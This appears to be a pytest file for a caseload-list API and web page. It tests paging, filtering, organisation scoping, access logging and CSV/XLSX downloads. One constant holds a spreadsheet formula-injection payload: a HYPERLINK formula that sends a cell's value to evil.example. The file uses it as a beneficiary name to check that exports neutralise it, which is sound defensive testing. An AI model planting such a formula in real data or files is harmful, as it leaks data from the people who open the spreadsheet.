"""The caseload list on the page and in the API: past 200 rows, filtered, scoped, downloaded.

In memory (no Temporal: the list only reads): 205 of anna's pathways in org-lecce, one of
them named as a formula, and marta's two in org-nardo. Each entry point pages past 200,
filters, keeps to the reader's scope, refuses an unknown filter with a stable code without
reading or logging anything, and downloads the selection with the name neutralised and the
read in the access log with its purpose.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any, cast

import httpx
import pytest
import pytest_asyncio
from openpyxl import load_workbook
from temporalio.client import Client

from client.pathway import PathwayClient
from domain.commands import COMMAND_ADAPTER, CommandEnvelope
from domain.decider import decide
from domain.evolution import fold
from domain.read_models import read_models
from domain.stream import record_events, stream_id_for
from domain.values import Actor, Role
from infra.access_log.base import InMemoryAccessLog
from infra.access_log.model import AccessEntry, AccessQuery, Purpose
from infra.eventstore.memory import InMemoryEventStore
from tests.scenarios import OPEN, START
from tests.web.conftest import web_settings
from tests.web.staff import bearer, staffed_accounts
from tests.web.test_pages import sign_in
from tests.web_app import create_test_app

ANNAS = 205
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")'
"""The given name of anna's pathway p-anna-007."""
NOW = START + timedelta(days=400)
"""The app's clock: every opening's first deadline is past."""


@dataclass
class Site:
    http: httpx.AsyncClient
    access_log: InMemoryAccessLog


async def open_pathway(
    store: InMemoryEventStore, pathway_id: str, caseworker: str, organisation: str, name: str
) -> None:
    command = {
        **OPEN,
        "pathway_id": pathway_id,
        "caseworker_id": caseworker,
        "organisation_id": organisation,
        "beneficiary": {**OPEN["beneficiary"], "given_name": name},
        "protection_status": "refugee" if pathway_id.endswith("0") else "asylum_seeker",
    }
    envelope = CommandEnvelope(
        command_id=f"open-{pathway_id}",
        actor=Actor(id=caseworker, role=Role.CASEWORKER),
        command=COMMAND_ADAPTER.validate_python(command),
    )
    events = decide(fold([]), envelope, START)
    records = record_events(stream_id_for(pathway_id), 0, envelope, events, START)
    await store.append(stream_id_for(pathway_id), 0, records, read_models(fold(records), records))


@pytest_asyncio.fixture(scope="module")
async def site() -> AsyncIterator[Site]:
    store = InMemoryEventStore()
    for i in range(ANNAS):
        name = HOSTILE if i == 7 else f"Amina{i}"
        await open_pathway(store, f"p-anna-{i:03d}", "anna", "org-lecce", name)
    for i in range(2):
        await open_pathway(store, f"p-marta-{i}", "marta", "org-nardo", f"Marta{i}")
    access_log = InMemoryAccessLog()
    app = create_test_app(
        PathwayClient(cast(Client, None), "no-temporal"),
        store,
        await staffed_accounts(),
        web_settings(clock=lambda: NOW),
        access_log=access_log,
    )
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as http:
        yield Site(http, access_log)


async def listed(site: Site, who: str, **params: Any) -> list[str]:
    reply = await site.http.get("/api/v1/pathways", params=params, headers=bearer(who))
    assert reply.status_code == 200, reply.text
    return [row["pathway_id"] for row in reply.json()]


async def every_entry(site: Site) -> list[AccessEntry]:
    found: list[AccessEntry] = []
    while batch := await site.access_log.search(AccessQuery(limit=500, offset=len(found))):
        found += batch
    return found


async def logged(site: Site, what: str) -> list[AccessEntry]:
    return [e for e in await every_entry(site) if e.what == what]


async def test_the_api_pages_past_200_in_scope(site: Site) -> None:
    pages = [await listed(site, "anna", limit=100, offset=o) for o in (0, 100, 200)]
    assert [len(p) for p in pages] == [100, 100, 5]
    assert len({p for page in pages for p in page}) == ANNAS
    assert await listed(site, "marta") == ["p-marta-0", "p-marta-1"]
    assert len(await listed(site, "cora", limit=500)) == ANNAS + 2


async def total(site: Site, who: str, **params: Any) -> int:
    reply = await site.http.get("/api/v1/pathways", params=params, headers=bearer(who))
    assert reply.status_code == 200, reply.text
    return int(reply.headers["X-Total-Count"])


async def test_the_api_counts_every_page_in_scope_only(site: Site) -> None:
    assert await total(site, "anna", limit=1) == ANNAS
    assert await total(site, "cora", limit=1) == ANNAS + 2
    assert await total(site, "marta") == 2
    assert await total(site, "sara", protection_status="refugee") == 21
    # Another organisation's pathways are never counted, whatever the filter names.
    assert await total(site, "sara", organisation_id="org-nardo") == 0
    assert await total(site, "paolo", caseworker_id="anna") == 0
    assert await total(site, "anna", caseworker_id="marta") == 0


async def test_a_download_past_its_limit_is_refused_and_reads_nothing(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("web.caseload_list.EXPORT_LIMIT", ANNAS - 1)
    before = len(await logged(site, "caseload_export"))
    for fmt in ("csv", "xlsx"):
        reply = await site.http.get(f"/api/v1/pathways.{fmt}", headers=bearer("anna"))
        assert reply.status_code == 422, reply.text
        assert reply.json()["code"] == "export_too_large"
    async with httpx.AsyncClient(
        transport=site.http._transport, base_url="http://testserver"
    ) as browser:
        await sign_in(browser, "anna")
        page = await browser.get("/caseload.csv")
        assert page.status_code == 422 and "Troppi percorsi" in page.text
    assert len(await logged(site, "caseload_export")) == before
    marta = await site.http.get("/api/v1/pathways.csv", headers=bearer("marta"))
    assert marta.status_code == 200, "a selection within the limit still downloads"


async def test_the_api_filters(site: Site) -> None:
    refugees = await listed(site, "sara", protection_status="refugee", limit=500)
    assert refugees == sorted(refugees) and len(refugees) == 21
    assert await listed(site, "cora", organisation_id="org-nardo") == ["p-marta-0", "p-marta-1"]
    assert await listed(site, "cora", caseworker_id="marta", stage="reception") == [
        "p-marta-0",
        "p-marta-1",
    ]
    assert await listed(site, "cora", stage="active") == []
    assert await listed(site, "cora", measure_kind="work_grant") == []
    assert len(await listed(site, "cora", overdue="true", limit=500)) == ANNAS + 2
    newest = await listed(site, "anna", sort="-opened", limit=1)
    assert newest == ["p-anna-000"]  # every opening at START: the pathway id decides


async def test_another_organisations_caseworker_filter_leaks_nothing(site: Site) -> None:
    assert await listed(site, "sara", caseworker_id="marta") == []
    assert await listed(site, "paolo", caseworker_id="anna") == []
    assert await listed(site, "anna", caseworker_id="marta") == []
    assert await listed(site, "sara", organisation_id="org-nardo") == []
    for fmt in ("csv", "xlsx"):
        reply = await site.http.get(
            f"/api/v1/pathways.{fmt}", params={"caseworker_id": "anna"}, headers=bearer("paolo")
        )
        assert reply.status_code == 200
        assert "p-anna" not in _text(reply, fmt)


@pytest.mark.parametrize(
    "field, value",
    [
        ("stage", "nope"),
        ("measure_kind", "flying_lessons"),
        ("protection_status", "tourist"),
        ("sort", "name"),
        ("overdue", "perhaps"),
    ],
)
async def test_the_api_refuses_an_unknown_filter(site: Site, field: str, value: str) -> None:
    before = len(await every_entry(site))
    for path in ("/api/v1/pathways", "/api/v1/pathways.csv", "/api/v1/pathways.xlsx"):
        reply = await site.http.get(path, params={field: value}, headers=bearer("cora"))
        assert reply.status_code == 422, reply.text
        assert reply.headers["content-type"] == "application/problem+json"
        assert reply.json()["code"] == "invalid_command"
        assert reply.json()["field"] == field
    assert len(await every_entry(site)) == before


def _text(reply: httpx.Response, fmt: str) -> str:
    if fmt == "csv":
        return reply.text
    sheet = load_workbook(io.BytesIO(reply.content)).active
    assert sheet is not None
    return "\n".join(str(c.value) for row in sheet.iter_rows() for c in row)


async def test_the_api_download_names_the_rows_safely_and_is_logged(site: Site) -> None:
    reply = await site.http.get(
        "/api/v1/pathways.csv",
        params={"caseworker_id": "anna", "purpose": "monitoring"},
        headers=bearer("sara"),
    )
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(reply.text)))
    assert rows[0][:4] == ["Percorso", "Beneficiario", "Organizzazione", "Operatore/operatrice"]
    body = rows[1 : ANNAS + 1]
    assert len(body) == ANNAS and all(r[0].startswith("p-anna-") for r in body)
    hostile = next(r for r in body if r[0] == "p-anna-007")
    assert hostile[1] == "'" + HOSTILE + " Diallo"
    entries = await logged(site, "caseload_export")
    assert {e.pathway_id for e in entries} >= {f"p-anna-{i:03d}" for i in range(ANNAS)}
    assert {e.purpose for e in entries if e.account_id == "sara"} == {Purpose.MONITORING}

    book = await site.http.get("/api/v1/pathways.xlsx", headers=bearer("anna"))
    assert book.status_code == 200
    sheet = load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    cell = next(r[1] for r in sheet.iter_rows(min_row=2) if r[0].value == "p-anna-007")
    assert cell.value == HOSTILE + " Diallo" and cell.quotePrefix


async def test_the_auditor_downloads_no_names_and_others_none(site: Site) -> None:
    reply = await site.http.get("/api/v1/pathways.csv", headers=bearer("aldo"))
    assert reply.status_code == 200
    assert "Amina" not in reply.text and "p-anna-001" in reply.text
    for who in ("adele",):
        refused = await site.http.get("/api/v1/pathways.csv", headers=bearer(who))
        assert refused.status_code == 403 and refused.json()["code"] == "forbidden"


async def test_the_page_lists_50_at_a_time_with_filters_folded(site: Site) -> None:
    async with httpx.AsyncClient(
        transport=site.http._transport, base_url="http://testserver"
    ) as browser:
        await sign_in(browser, "anna")
        home = await browser.get("/")
        assert """urgenti. <a href="/caseload">L'elenco completo dei casi</a>""" in home.text
        first = await browser.get("/caseload")
        assert first.status_code == 200
        assert f'<p class="count" role="status">{ANNAS} percorsi</p>' in first.text
        assert '<details class="action caseload-filters">' in first.text
        assert first.text.count('<li class="card') == 50
        assert "Amina0 Diallo" in first.text and "page=1" in first.text
        last = await browser.get("/caseload", params={"page": 4})
        assert last.text.count('<li class="card') == 5 and "page=3" in last.text
        assert 'rel="next"' not in last.text
        filtered = await browser.get("/caseload", params={"protection_status": "refugee"})
        assert filtered.text.count('<li class="card') == 21
        assert ">21 percorsi</p>" in filtered.text
        one = await browser.get("/caseload", params={"caseworker_id": "anna", "sort": "-opened"})
        assert f">{ANNAS} percorsi</p>" in one.text
        assert '<details class="action caseload-filters" open>' in filtered.text
        assert "/caseload.csv?protection_status=refugee" in filtered.text
        download = await browser.get("/caseload.xlsx", params={"protection_status": "refugee"})
        assert download.status_code == 200 and download.headers["content-type"] == (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )


@pytest.mark.parametrize(
    "params", [{"stage": "nope"}, {"measure_kind": "x"}, {"sort": "name"}, {"page": "-1"}]
)
async def test_the_page_shows_a_bad_filter_in_italian_and_reads_nothing(
    site: Site, params: dict[str, str]
) -> None:
    async with httpx.AsyncClient(
        transport=site.http._transport, base_url="http://testserver"
    ) as browser:
        await sign_in(browser, "sara")
        before = len(await every_entry(site))
        page = await browser.get("/caseload", params=params)
        assert page.status_code == 422
        assert "Un filtro ha un valore sconosciuto" in page.text
        assert '<li class="card' not in page.text
        if "page" not in params:
            download = await browser.get("/caseload.csv", params=params)
            assert download.status_code == 422 and "text/html" in download.headers["content-type"]
        assert len(await every_entry(site)) == before


async def test_partner_and_admin_have_no_caseload_page(site: Site) -> None:
    async with httpx.AsyncClient(
        transport=site.http._transport, base_url="http://testserver"
    ) as browser:
        await sign_in(browser, "adele")
        assert (await browser.get("/caseload")).status_code == 403
        assert (await browser.get("/caseload.csv")).status_code == 403
